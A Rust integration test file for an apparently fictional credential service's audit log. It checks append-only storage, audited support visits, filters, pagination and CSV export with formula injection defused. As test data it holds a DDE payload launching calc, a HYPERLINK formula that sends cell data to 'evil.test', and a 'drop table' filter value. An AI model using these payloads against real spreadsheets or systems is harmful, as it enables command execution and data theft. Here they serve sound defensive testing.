//! The audit log: append-only storage, support visits recorded, filters,
//! keyset pagination and the CSV export.

use axum::http::StatusCode;

use crate::support::pages::*;
use crate::support::*;

#[tokio::test]
async fn the_audit_log_refuses_updates_and_deletes() {
    let app = TestApp::demo().await;
    app.sign_in_as(Persona::Owner).await;
    let update = app
        .sql
        .try_execute("UPDATE audit_events SET action = 'nothing'", &[])
        .await;
    assert!(update.unwrap_err().to_string().contains("append-only"));
    let delete = app.sql.try_execute("DELETE FROM audit_events", &[]).await;
    assert!(delete.unwrap_err().to_string().contains("append-only"));
    assert!(app.count("SELECT COUNT(*) FROM audit_events").await > 0);
}

#[tokio::test]
async fn support_visits_to_the_credentials_page_are_audited() {
    let app = TestApp::demo().await;
    let mut support = app.sign_in_as(Persona::Support).await;
    support.get(CREDENTIALS).await.assert_status(StatusCode::OK);
    let acme = app.org_id("Acme Payments").await;
    let row: (String, Option<String>, String) = app
        .sql
        .one(
            "SELECT actor, target, detail FROM audit_events WHERE action = 'support.viewed' AND organization_id = $1",
            &[acme.into()],
        )
        .await;
    assert_eq!(
        row,
        (
            "support@keyward.test".to_owned(),
            Some("Credentials".to_owned()),
            "{\"support\":true}".to_owned()
        )
    );
    // The htmx refresh of the list is a read like any other.
    support
        .htmx()
        .get(CREDENTIALS)
        .await
        .assert_status(StatusCode::OK);
    let visits = "SELECT COUNT(*) FROM audit_events WHERE action = 'support.viewed' AND target = 'Credentials'";
    assert_eq!(app.count(visits).await, 2);
}

/// How the Audit log marks a rotation.
const ROTATED: &str = "<span class=\"event-kind\">Credential rotated</span>";

#[tokio::test]
async fn the_audit_log_filters_pages_and_exports_what_it_shows() {
    let app = TestApp::demo().await;
    let mut owner = app.sign_in_as(Persona::Owner).await;
    let (client_id, _) = owner.create_credential("=cmd|' /C calc'!A0").await;
    owner.rotate(&client_id, Grace::Unchosen).await;
    app.clock.advance(3 * 86_400);
    // Three days on, both sign in again.
    let mut owner = app.sign_in_as(Persona::Owner).await;
    let mut admin = app.sign_in_as(Persona::Admin).await;
    admin.get(CREDENTIALS).await;
    admin.rotate(&client_id, Grace::Unchosen).await;

    let rotated = owner.get("/audit-log?action=credential.rotated").await;
    rotated.assert_status(StatusCode::OK);
    assert_eq!(rotated.body.matches(ROTATED).count(), 2);
    assert_eq!(rotated.body.matches("class=\"event-kind\"").count(), 2);
    // Events read as sentences with names, ids on hover, and no raw JSON.
    rotated
        .assert_contains(
            "<span class=\"strong\" title=\"admin@acme.test\">Adam Admin</span> rotated",
        )
        .assert_contains("previous secret stopped at once")
        .assert_lacks("&quot;grace_seconds&quot;")
        .assert_lacks("{&quot;");
    let by_admin = owner.get("/audit-log?actor=Admin%40acme.test").await;
    assert!(
        by_admin.body.contains("title=\"admin@acme.test\"")
            && !by_admin.body.contains("title=\"owner@acme.test\"")
    );
    // Part of an address is enough.
    let by_part = owner
        .get("/audit-log?actor=adm&action=credential.rotated")
        .await;
    assert_eq!(by_part.body.matches(ROTATED).count(), 1);
    let by_credential = owner
        .get(&format!("/audit-log?credential={client_id}"))
        .await;
    assert_eq!(
        by_credential
            .body
            .matches(&format!("title=\"{client_id}\""))
            .count(),
        3
    );
    let today = app.clock.today();
    let recent = owner
        .get(&format!(
            "/audit-log?action=credential.rotated&from={today}&to={today}"
        ))
        .await;
    assert_eq!(recent.body.matches(ROTATED).count(), 1);
    // A date input holds only dates: what is not one is left out of it
    // (the page stays valid HTML), and the message says why.
    for typed in ["yesterday", "2024-13-45"] {
        owner
            .get(&format!("/audit-log?from={typed}"))
            .await
            .assert_status(StatusCode::UNPROCESSABLE_ENTITY)
            .assert_contains("Enter a date as YYYY-MM-DD.")
            .assert_contains(r#"id="from" name="from" type="date" value="""#)
            .assert_lacks(&format!("value=\"{typed}\""));
    }
    owner
        .get("/audit-log?from=2024-05-02")
        .await
        .assert_contains(r#"type="date" value="2024-05-02""#);
    owner
        .get("/audit-log?from=2026-02-02&to=2026-01-01")
        .await
        .assert_contains("The end date is before the start date.");
    owner
        .get("/audit-log?action=drop%20table")
        .await
        .assert_contains("Choose an action from the list.");

    // CSV of the filtered view, with formula-looking cells defused.
    let csv = owner
        .get(&format!("/audit-log/export.csv?credential={client_id}"))
        .await;
    csv.assert_status(StatusCode::OK);
    assert_eq!(csv.header("content-type"), "text/csv; charset=utf-8");
    assert!(
        csv.header("content-disposition")
            .starts_with("attachment; filename=\"keyward-audit-log-")
    );
    let mut reader = csv::Reader::from_reader(csv.body.as_bytes());
    assert_eq!(
        reader.headers().unwrap().iter().collect::<Vec<_>>(),
        [
            "time",
            "actor",
            "action",
            "target",
            "ip",
            "user_agent",
            "detail"
        ]
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), 3);
    assert!(rows.iter().all(|r| &r[3] == client_id.as_str()));
    assert!(csv.body.contains("=cmd|"), "the name is in the detail");
    let actor_csv = owner.get("/audit-log/export.csv?actor==evil@x.test").await;
    assert_eq!(actor_csv.body.lines().count(), 1, "only the header");
}

#[tokio::test]
async fn audit_pages_are_keyset_paginated_and_readable_by_every_role_but_changeable_by_none() {
    let app = TestApp::demo().await;
    let acme = app.org_id("Acme Payments").await;
    for i in 0..120 {
        let target = format!("kwid_seed{i:03}");
        app.sql
            .execute(
                "INSERT INTO audit_events (organization_id, actor, action, target, detail, created_at) VALUES ($1, 'seed@acme.test', 'credential.rotated', $2, '{}', $3)",
                &[acme.into(), (&target).into(), app.clock.now().into()],
            )
            .await;
    }
    let mut viewer = app.sign_in_as(Persona::Viewer).await;
    let first = viewer.get("/audit-log?action=credential.rotated").await;
    assert_eq!(first.body.matches(ROTATED).count(), 50);
    assert!(first.body.contains("kwid_seed119") && !first.body.contains("kwid_seed069"));
    let marker = "before=";
    let start = first.body.find(marker).unwrap() + marker.len();
    let before: String = first.body[start..]
        .chars()
        .take_while(char::is_ascii_digit)
        .collect();
    let second = viewer
        .get(&format!(
            "/audit-log?action=credential.rotated&before={before}"
        ))
        .await;
    assert_eq!(second.body.matches(ROTATED).count(), 50);
    assert!(second.body.contains("kwid_seed069") && !second.body.contains("kwid_seed070\""));
    assert!(!second.body.contains("<td>kwid_seed070</td>"));
    second.assert_contains("Newest events");

    let mut support = app.sign_in_as(Persona::Support).await;
    support.get(AUDIT_LOG).await.assert_status(StatusCode::OK);
    for method in ["POST", "PUT", "DELETE"] {
        let request = viewer
            .request(method, AUDIT_LOG)
            .header("x-csrf-token", viewer.csrf.clone().unwrap());
        viewer
            .send(request)
            .await
            .assert_status(StatusCode::METHOD_NOT_ALLOWED);
    }
}

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

#[tokio::test]
async fn every_exported_cell_that_a_spreadsheet_would_run_is_defused() {
    let app = TestApp::demo().await;
    let mut owner = app.sign_in_as(Persona::Owner).await;
    let (client_id, _) = owner.create_credential("Exported client").await;
    // A realistic one: a failed token request whose User-Agent is a formula.
    let agent = "=HYPERLINK(\"https://evil.test/?leak=\"&A1,\"Click\")";
    let mut machine = app.client();
    let wrong = machine
        .request("POST", "/oauth/token")
        .form(&[
            ("grant_type", "client_credentials"),
            ("client_id", &client_id),
            ("client_secret", &well_formed_wrong_secret()),
        ])
        .header("user-agent", agent);
    machine
        .send(wrong)
        .await
        .assert_oauth_error(StatusCode::UNAUTHORIZED, "invalid_client");
    // Then an event whose every cell but the time starts with each character.
    let acme = app.org_id("Acme Payments").await;
    for c in FORMULA_STARTS {
        let cell = |name: &str| format!("{c}{name}(1)");
        app.sql
            .execute(
                "INSERT INTO audit_events (organization_id, actor, action, target, ip, user_agent, detail, created_at)
                 VALUES ($1, $2, 'credential.rotated', $3, $4, $5, $6, $7)",
                &[
                    acme.into(),
                    (&cell("actor")).into(),
                    (&cell("target")).into(),
                    (&cell("ip")).into(),
                    (&cell("agent")).into(),
                    (&cell("detail")).into(),
                    app.clock.now().into(),
                ],
            )
            .await;
    }

    let csv = owner.get("/audit-log/export.csv").await;
    csv.assert_status(StatusCode::OK);
    let rows: Vec<csv::StringRecord> = csv::Reader::from_reader(csv.body.as_bytes())
        .records()
        .map(Result::unwrap)
        .collect();
    let failed = rows
        .iter()
        .find(|r| &r[2] == "token.auth_failed")
        .expect("the failed token request is exported");
    assert_eq!(&failed[5], format!("'{agent}"));
    for c in FORMULA_STARTS {
        let row = rows
            .iter()
            .find(|r| r[1].ends_with(&format!("{c}actor(1)")))
            .unwrap_or_else(|| panic!("no row for {c:?}"));
        for (column, name) in [
            (1, "actor"),
            (3, "target"),
            (4, "ip"),
            (5, "agent"),
            (6, "detail"),
        ] {
            assert_eq!(
                row[column],
                format!("'{c}{name}(1)"),
                "column {column}, {c:?}"
            );
        }
    }
    // And nowhere else does a cell start as a formula would.
    for row in &rows {
        for cell in row.iter() {
            assert!(
                !cell.starts_with(FORMULA_STARTS),
                "a cell starts as a formula: {cell:?}"
            );
        }
    }
}
